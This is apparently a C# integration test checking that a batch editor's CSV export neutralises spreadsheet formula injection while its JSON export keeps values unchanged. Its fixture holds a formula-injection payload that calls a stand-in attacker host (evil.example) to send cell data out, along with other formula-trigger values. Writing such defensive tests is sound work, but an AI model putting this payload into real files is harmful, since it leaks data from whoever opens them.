using System.Text;
using System.Text.Json;
using BatchEditor.IntegrationTests.Infrastructure;
using BatchEditor.ReadModel;
using Microsoft.Extensions.DependencyInjection;

namespace BatchEditor.IntegrationTests;

/// <summary>Results exports that a spreadsheet opens safely, and the same facts as JSON.</summary>
public class SafeExportTests
{
    [Fact]
    public async Task Cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_numbers_stay_numbers()
    {
        await using var bed = await TestBed.StartAsync();
        var manifest = await bed.ImportAsync("""
            id,image_url,prompt
            "=HYPERLINK(""http://evil.example/?""&A1)",https://img.example.com/1.jpg,one
            +cmd,https://img.example.com/2.jpg,two
            @SUM(1),https://img.example.com/3.jpg,three
            -2,https://img.example.com/4.jpg,four
            plain,https://img.example.com/5.jpg,five
            """);
        await bed.RunWorkerUntilIdleAsync(TimeSpan.FromSeconds(60));
        using var host = bed.BuildHost();
        var export = host.Services.GetRequiredService<ResultsExport>();

        using var csv = new MemoryStream();
        Assert.Equal(5, await export.WriteCsvAsync(csv, manifest.Id, null, DateTimeOffset.UtcNow, CancellationToken.None));
        var rows = Encoding.UTF8.GetString(csv.ToArray()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).ToList();
        Assert.StartsWith("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",Succeeded,", rows[0]);
        Assert.StartsWith("\"'+cmd\",Succeeded,", rows[1]);
        Assert.StartsWith("\"'@SUM(1)\",Succeeded,", rows[2]);
        Assert.StartsWith("\"'-2\",Succeeded,", rows[3]);
        Assert.StartsWith("plain,Succeeded,", rows[4]);
        Assert.All(rows, r => Assert.EndsWith(",5.0000,0.050000,false", r)); // numbers as the ledger holds them, never escaped

        using var json = new MemoryStream();
        await export.WriteJsonAsync(json, manifest.Id, null, CancellationToken.None);
        var first = JsonDocument.Parse(json.ToArray()).RootElement[0];
        Assert.Equal("=HYPERLINK(\"http://evil.example/?\"&A1)", first.GetProperty("id").GetString()); // JSON carries the value as it is
        Assert.Equal(5m, first.GetProperty("credits").GetDecimal());
        Assert.Single(first.GetProperty("outputs").EnumerateArray());
    }
}
